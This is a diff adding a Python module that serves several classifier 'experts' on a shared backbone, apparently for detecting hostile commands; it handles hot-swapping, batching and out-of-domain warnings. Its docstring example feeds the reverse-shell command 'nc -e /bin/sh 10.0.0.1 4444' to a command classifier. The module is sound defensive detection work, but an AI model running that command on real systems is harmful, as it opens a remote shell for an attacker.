@@ -1,0 +1,193 @@
+"""All experts on one backbone: plugged in, replaced and pulled out while they answer; asked one by one or together.
+
+A request works on the experts as they were when it came: nothing is dropped and nothing is answered by a version that
+was not whole. The trunk is computed once for all experts asked about a text (CCoE, arXiv 2407.11686).
+
+    floor = ExpertFloor.open()
+    floor.ask("command", ["nc -e /bin/sh 10.0.0.1 4444"])[0].best
+"""
+
+from collections.abc import Iterator, Mapping, Sequence
+from threading import Lock
+from typing import Final
+
+import numpy as np
+import numpy.typing as npt
+
+from watchfloor.base.errors import UsageError
+from watchfloor.base.judgements import Expert, Judgement
+from watchfloor.experts import bundled
+from watchfloor.experts.backbone import Backbone, Job
+from watchfloor.experts.judging import joined, judgement
+from watchfloor.experts.packs import Plugged, load
+from watchfloor.experts.pieces import MOST_CHARACTERS, Numbers, Window, shape
+
+Floats = npt.NDArray[np.float32]
+
+#: Texts that are worked on at once: enough to fill the graphs, little memory.
+_AT_ONCE: Final = 256
+
+
+class ExpertFloor:
+    """The experts of one backbone, and others behind endpoints, by name."""
+
+    def __init__(self, backbone: Backbone) -> None:
+        self.backbone = backbone
+        self._plugged: Mapping[str, Plugged] = {}
+        self._outside: Mapping[str, Expert] = {}
+        self._changing = Lock()
+
+    @classmethod
+    def open(cls, *, threads: int = 0) -> "ExpertFloor":
+        """The bundled backbone and every bundled expert.
+
+        Raises:
+            PackError: a pack is missing or damaged.
+        """
+        floor = cls(Backbone(bundled.BACKBONE, threads=threads))
+        for folder in bundled.experts():
+            floor.plug(load(folder, base=floor.backbone.version))
+        return floor
+
+    @property
+    def experts(self) -> Mapping[str, Plugged]:
+        """The experts on the backbone as they are now; the mapping never changes under its reader."""
+        return self._plugged
+
+    @property
+    def names(self) -> list[str]:
+        """Names of all that can be asked."""
+        return sorted([*self._plugged, *self._outside])
+
+    def plug(self, expert: Plugged) -> None:
+        """Plug an expert in, or put it in the place of the one with its name."""
+        if expert.card.base != self.backbone.version:
+            raise UsageError(f"expert {expert.name} was made for another backbone.")
+        with self._changing:
+            self._plugged = {**self._plugged, expert.name: expert}
+
+    def attach(self, expert: Expert) -> None:
+        """Attach an expert that is not on the backbone: a model behind an endpoint."""
+        with self._changing:
+            self._outside = {**self._outside, expert.name: expert}
+
+    def pull(self, name: str) -> None:
+        """Pull an expert out; requests that are under way still get their answer.
+
+        Raises:
+            UsageError: it is not there.
+        """
+        with self._changing:
+            if name not in self._plugged and name not in self._outside:
+                raise self._missing(name)
+            self._plugged = {key: each for key, each in self._plugged.items() if key != name}
+            self._outside = {key: each for key, each in self._outside.items() if key != name}
+
+    def ask(self, name: str, texts: Sequence[str]) -> list[Judgement]:
+        """One expert's judgement of each text.
+
+        Raises:
+            UsageError: no such expert.
+        """
+        return self.ask_all([name], texts)[name]
+
+    def ask_all(self, names: Sequence[str], texts: Sequence[str]) -> dict[str, list[Judgement]]:
+        """Several experts' judgements of the same texts; what they share is computed once.
+
+        Raises:
+            UsageError: one of them is not there.
+        """
+        judged = self.ask_each([(name, text) for text in texts for name in names])
+        return {name: judged[place :: len(names)] for place, name in enumerate(names)}
+
+    def ask_each(self, questions: Sequence[tuple[str, str]]) -> list[Judgement]:
+        """Each text judged by the expert beside it, all of them in one go.
+
+        Raises:
+            UsageError: one of the experts is not there.
+        """
+        plugged, outside = self._plugged, self._outside
+        for name in dict.fromkeys(name for name, _ in questions):
+            if name not in plugged and name not in outside:
+                raise self._missing(name)
+        found: list[Judgement | None] = [None] * len(questions)
+        inside = [place for place, (name, _) in enumerate(questions) if name in plugged]
+        for start in range(0, len(inside), _AT_ONCE):
+            part = inside[start : start + _AT_ONCE]
+            judged = self._judge([(plugged[questions[place][0]], questions[place][1]) for place in part])
+            for place, each in zip(part, judged, strict=True):
+                found[place] = each
+        for name in sorted({name for name, _ in questions} - set(plugged)):
+            places = [place for place, (asked, _) in enumerate(questions) if asked == name]
+            for place, each in zip(places, outside[name].ask([questions[place][1] for place in places]), strict=True):
+                found[place] = each
+        return [each for each in found if each is not None]
+
+    def _judge(self, questions: Sequence[tuple[Plugged, str]]) -> list[Judgement]:
+        texts = list(dict.fromkeys(text for _, text in questions))
+        pieces = dict(zip(texts, self.backbone.pieces.split(texts), strict=True))
+        found: list[Judgement | None] = [None] * len(questions)
+        ways: dict[tuple[int, int, int], list[int]] = {}
+        for place, (expert, _) in enumerate(questions):
+            windows = expert.card.windows
+            ways.setdefault((windows.size, windows.overlap, windows.most), []).append(place)
+        for way, places in ways.items():
+            cuts = {text: self.backbone.pieces.windows(pieces[text], *way)
+                    for text in dict.fromkeys(questions[place][1] for place in places)}  # fmt: skip
+            for place, each in self._read([(place, *questions[place]) for place in places], cuts, pieces):
+                found[place] = each
+        return [each for each in found if each is not None]
+
+    def _read(self, asked: Sequence[tuple[int, Plugged, str]], cuts: Mapping[str, list[Window]],
+              pieces: Mapping[str, Numbers]) -> Iterator[tuple[int, Judgement]]:  # fmt: skip
+        """Questions whose experts cut texts alike: through trunk and upper block together."""
+        first: dict[str, int] = {}
+        windows: list[Window] = []
+        for text, cut in cuts.items():
+            first[text] = len(windows)
+            windows += cut
+        seen = self.backbone.see(windows)
+        experts = list({expert.name: expert for _, expert, _ in asked}.values())
+        number = {expert.name: place for place, expert in enumerate(experts)}
+        jobs: list[Job] = []
+        spans: list[range] = []
+        for _, expert, text in asked:
+            spans.append(range(len(jobs), len(jobs) + len(cuts[text])))
+            jobs += [(first[text] + place, number[expert.name]) for place in range(len(cuts[text]))]
+        features = self.backbone.read(seen, [expert.adapter for expert in experts], jobs)
+        whitened = self.backbone.whitened(seen)
+        shapes = {text: shape(text) for text in cuts}
+        for expert in experts:
+            mine = [row for row, (_, each, _) in enumerate(asked) if each.name == expert.name]
+            rows = [job for row in mine for job in spans[row]]
+            looks = np.stack([shapes[asked[row][2]] for row in mine for _ in spans[row]])
+            words = [window.words[1:-1] for row in mine for window in cuts[asked[row][2]]]
+            logits = expert.adapter.logits(features[rows], looks, words)
+            start = 0
+            for row in mine:
+                place, _, text = asked[row]
+                end = start + len(spans[row])
+                probability, _ = joined(expert.card, logits[start:end])
+                where = whitened[first[text] : first[text] + len(cuts[text])]
+                doubts = self._doubts(expert, text, pieces[text], where)
+                yield place, judgement(expert.card, expert.version, probability, doubts)
+                start = end
+
+    def _doubts(self, expert: Plugged, text: str, pieces: Numbers, where: Floats) -> list[str]:
+        """Why this expert had better not answer this text."""
+        if not len(pieces):
+            return ["there is nothing to read"]
+        found = []
+        windows = expert.card.windows
+        held = windows.size - 2 + (windows.most - 1) * (windows.size - 2 - windows.overlap)
+        if windows.join == "alarm" and (len(pieces) > held or len(text) > MOST_CHARACTERS):
+            found.append(f"longer than it can read: {len(text):,} characters; split it")
+        distance = float(expert.domain.distance(where).min())
+        if distance > expert.domain.limit:
+            found.append(f"unlike anything it knows: distance {distance:.2f}, and it answers up to "
+                         f"{expert.domain.limit:.2f}")  # fmt: skip
+        return found
+
+    def _missing(self, name: str) -> UsageError:
+        known = ", ".join(self.names) or "none"
+        return UsageError(f"there is no expert {name!r}.", hint=f"There are: {known}.")
